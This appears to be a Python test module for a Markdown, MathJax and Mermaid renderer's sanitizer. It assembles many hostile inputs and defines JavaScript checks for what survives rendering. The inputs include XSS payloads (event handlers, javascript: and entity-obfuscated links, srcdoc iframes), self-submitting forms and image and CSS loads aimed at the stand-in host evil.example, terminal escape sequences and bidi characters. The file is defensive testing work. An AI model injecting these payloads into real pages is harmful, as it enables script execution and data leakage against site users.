r"""Ten answers that try to do something to the page, and what of them is found in it.

They would set `window.pwned`, ask a listening server for something, submit or navigate.
"""

from __future__ import annotations

from tests.render.hostile import CASES

HELD_OPEN = "held open"
SOUND = r"$\frac{1}{2}$"
"""A formula after all the others: whatever they redefined, it is a fraction."""

_OWN = {
    "handlers of all kinds": (
        "<details open ontoggle=pwned=1>x</details><input autofocus onfocus=pwned=1>"
        "<marquee onstart=pwned=1>x</marquee><body onpageshow=pwned=1>"
        '<a href=# onclick="pwned=1">x</a><button formaction=javascript:pwned=1>x</button>'
    ),
    "frames of all kinds": (
        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'
        "<iframe src=javascript:parent.pwned=1></iframe><frameset><frame src=//evil.example>"
        "<portal src=//evil.example></portal><object data=javascript:pwned=1></object>"
    ),
    "forms that send themselves": (
        "<form id=f action=//evil.example method=post><input name=x value=1></form>"
        "<script>f.submit()</script><isindex action=//evil.example>"
    ),
    "images of all kinds": (
        "![a](//evil.example/a.png) ![b](http:evil.example/b.png) ![c][c]\n"
        "![d](<https://evil.example/d e.png>) ![](https://evil.example/f.png)\n"
        "<picture><source srcset=//evil.example/g.png></picture>"
        "<input type=image src=//evil.example/h.png><table background=//evil.example/i.png>\n\n"
        '[c]: https://evil.example/c.png "onload=alert(1)"'
    ),
    "css": (
        "<div style=\"background:url('//evil.example/1.png')\">x</div>"
        "<link rel=stylesheet href=//evil.example/2.css><style>@import '//evil.example/3.css';"
        "body{background:url(//evil.example/4.png)}</style>"
    ),
    "entities": (
        "[x](&#x6A;&#x61;vascript:alert(1)) [y](java&#10;script&colon;alert(1))"
        " [z](\\javascript:alert(1)) [v](&Tab;javascript:alert(1)) [w](data&colon;text/html,x)"
        " &lt;img src=x onerror=alert(1)&gt; <&#115;cript>alert(1)</script>"
    ),
    "links in links": (
        "[![x](javascript:alert(1))](javascript:alert(1)) [a[b](javascript:alert(1))]"
        "(data:text/html,<script>alert(1)</script>) <javascript:alert(1)> "
        "[x](javascript://evil.example/%0aalert(1)) www.evil.example/x javascript:alert(1)"
    ),
    "a task list": "- [x] <img src=x onerror=alert(1)>\n- [ ] [y](javascript:alert(1))",
    "a footnote": "x[^1] <sup>\n\n[^1]: <img src=//evil.example/n.png onerror=alert(1)>",
    "commands": (
        r"$\href{javascript:pwned=1}{x}$ $\url{javascript:pwned=1}$ "
        r"$\style{background:url(//evil.example/s.png)}{x}$ $\class{jp-Cell}{x}$ "
        r"$\cssId{main}{x}$ $\unicode{x202e}$ $\require{html}$ $\require{action}$ "
        r"$\def\frac#1#2{#1}$ $\gdef\sqrt{x}$ $\let\frac\sqrt$ $\newcommand{\frac}{x}$ "
        r"$\renewcommand{\frac}[2]{x}$ $\data{onclick=pwned=1}{x}$ "
        r"$\includegraphics{//evil.example/g.png}$ $\toggle{a}{b}\endtoggle$ "
        r"$\mmlToken{mi}[href=javascript:pwned=1]{x}$ $\text{<img src=x onerror=pwned=1>}$ "
        r"$\bbox[url(//evil.example/b.png)]{x}$ \(\href {javascript:pwned=1}{x}\) "
        "\n\n\\[\\require{html}\\href{javascript:pwned=1}{x}\\]\n\n"
        "$$\\begin{array}{c}\\href{javascript:pwned=1}{x}\\\\\\frac{a}{b}\\end{array}$$\n\n"
        "\\begin{equation}\\style{position:fixed}{x}\\end{equation}"
    ),
    "a diagram": (
        "```mermaid\ngraph TD\n  A[<img src='//evil.example/m.png' onerror='pwned=1'>] --> B\n"
        '  click A "javascript:pwned=1" _self\n  click B call alert(1)\n```'
    ),
    "a diagram with settings": (
        "~~~Mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true, 'themeCSS':"
        " '@import url(//evil.example/t.css)'}}%%\n"
        "graph LR\n  A@{img: '//evil.example/i.png'}\n"
        "  A --> B[\"<a href='//evil.example'>x</a>\"]\n~~~"
    ),
    "a diagram in a list": (
        '- one\n\n  ```mermaid\n  graph TD; A["<img src=//evil.example/l.png>"]\n  ```\n\n'
        "> ```mermaid\n> sequenceDiagram\n> A->>B: <img src=//evil.example/q.png>\n> ```"
    ),
    "nul": "a\x00b <scr\x00ipt>alert(1)</script> [x](java\x00script:alert(1))",
    "signs of ours": (
        "&#xE000;0&#xE001; ![&#xE000;5&#xE001;](x) [x](&#xE000;5&#xE001;) &#xE002;script>"
        " [y](http://ok.example/&#xE000;0&#xE001;)"
    ),
    "hidden": "&#x202E; &#27;[2J &#x9b; [x](https://ok.example/&#x202e;) ![&#x2066;](y)",
    "escapes": (
        "\x1b[2J\x1b]52;c;cHduZWQ=\x07\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\\x9b"
    ),
}

_GROUPS = {
    "scripts": (
        "script", "script in words", "onerror", "svg", "end of script", "comment", "title",
        "upper case", "unclosed", "slashes for spaces", "body handlers", "template",
    ),
    "frames": (
        "iframe", "style", "form", "embedded", "meta", "css", "style on our tags", "math",
    ),
    "links": (
        "javascript link", "javascript link, entity", "javascript link, blanks", "data link",
        "data link, blanks", "vbscript link", "file link", "autolink", "autolink in link",
        "blob link", "link title", "link quotes", "broken host",
    ),
    "brackets": (
        "entities", "reference link", "reference image", "nested brackets",
        "brackets, then code",
    ),
    "images": (
        "image", "image in link", "image, quotes", "svg image", "media", "media by markdown",
    ),
    "code": (
        "html in a table", "html in code", "fence info", "code that ends early",
        "table in cell", "table, links", "code, end",
    ),
    "ends": (
        "details", "details inside", "end of our tags", "struck", "headings",
        "raw end of list",
    ),
    "formulas": (
        "formula with html", "formula with link", "formula with code", "formula with fence",
        "formula with markdown link", "formula in words", "environment", "definitions",
        "boxed with html", "boxed with commands", "boxed, open",
    ),
    "diagrams": (),
    "signs": ("bidi", "escapes", "bidi, more", "escapes, more"),
}  # fmt: skip
_OWN_OF = {
    "scripts": ("handlers of all kinds", "nul"),
    "frames": ("frames of all kinds", "forms that send themselves", "css"),
    "links": ("links in links", "a task list"),
    "brackets": ("entities", "a footnote"),
    "images": ("images of all kinds",),
    "formulas": ("commands",),
    "diagrams": ("a diagram", "a diagram with settings", "a diagram in a list"),
    "signs": ("escapes", "signs of ours", "hidden"),
}

# a fence within a formula is a fence: left open, it would make code of all that follows
_ENDS = {"formula with fence": "\n```"}

# a lone surrogate is no text that a service could send
assert {name for group in _GROUPS.values() for name in group} == set(CASES) - {
    "nul and surrogates"
}


def fragments(host: str) -> list[str]:
    """Return all attacks, those that want a server aimed at a host."""
    told = [text for name, text in CASES.items() if name != "nul and surrogates"]
    return [_aimed(text, host) for text in (*told, *_OWN.values())]


def attacks(host: str) -> dict[str, str]:
    """Return the ten answers.

    Parameters
    ----------
    host : str
        Host and port of the server that they would ask.
    """
    return {
        name: _aimed(
            "\n\n".join(
                [
                    *(CASES[case] + _ENDS.get(case, "") for case in cases),
                    *map(_OWN.get, _OWN_OF.get(name, ())),
                ]
            ),
            host,
        )
        + f"\n\n![the picture](http://{host}/last.png) and {SOUND}\n\n"
        for name, cases in _GROUPS.items()
    }


def _aimed(text: str, host: str) -> str:
    text = text.replace("alert(1)", "pwned=1").replace("f()", "pwned=1")
    return text.replace("https://evil.example", f"http://{host}").replace("evil.example", host)


# What may stand in an output; MathJax's own is judged apart. A live card makes what a
# Markdown renderer makes, the static output only what survives any reader.
FINDINGS = r"""root => {
  const live = root.matches(".qn-card"), found = [];
  const tags = new Set((
    "a blockquote code div em li ol pre span strong ul table tr td details summary img" +
    (live ? " p h1 h2 h3 h4 h5 h6 thead tbody th del s br hr header button" : " tbody")
  ).split(" "));
  const attributes = new Set((
    "style href rel target src alt start title role dir aria-label aria-level tabindex" +
    (live ? " class type hidden open aria-live aria-hidden data-lm-suppress-shortcuts" : "")
  ).split(" "));
  for (const node of root.querySelectorAll("*")) {
    const name = node.localName, typeset = node.closest("mjx-container");
    const own = typeset && (/^mjx-/.test(name) || node.namespaceURI.endsWith("MathML"));
    if (!own && !tags.has(name)) found.push(`<${name}>`);
    for (const { name: attribute, value } of node.attributes) {
      const is = (wanted, pattern) => attribute === wanted && pattern.test(value);
      const bad = [
        typeset ? /^on|^href$|^src$|^id$/.test(attribute) : !attributes.has(attribute),
        attribute === "href" && !is("href", /^(https?:\/\/|mailto:)/),
        attribute === "src" && !is("src", /^data:image\/(png|jpeg|gif|webp);base64,/),
        is("style", typeset ? /url/ : /url|var|expression|fixed|absolute|import/),
        live && !typeset && is("style", /^(?!text-align: (center|right);$)/),
      ];
      if (bad.includes(true)) found.push(`${name} ${attribute}=${value}`);
    }
  }
  const shown = root.textContent;
  const hidden = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
  if (hidden.test(shown)) found.push("a hidden sign");
  return [...new Set(found)];
}"""

# A person who clicks on everything that looks like a link, but what may be followed.
CLICK_ALL = """root => {
  for (const node of root.querySelectorAll("*")) {
    const followed = node.closest("a")?.protocol;
    if (/^(https?|mailto):$/.test(followed) || node.closest("button, summary")) continue;
    for (const kind of ["mousedown", "mouseover", "focus"]) node.dispatchEvent(new Event(kind));
    node.click?.();
  }
}"""

# The pictures that are links: what is written, and what stands right beside it.
PICTURES = r"""root => [...root.querySelectorAll("a")]
  .filter(a => /\.png$/.test(a.href) && /mage/.test(a.textContent))
  .map(a => [new URL(a.href).hostname, (a.nextElementSibling ?? a).textContent.trim()])"""
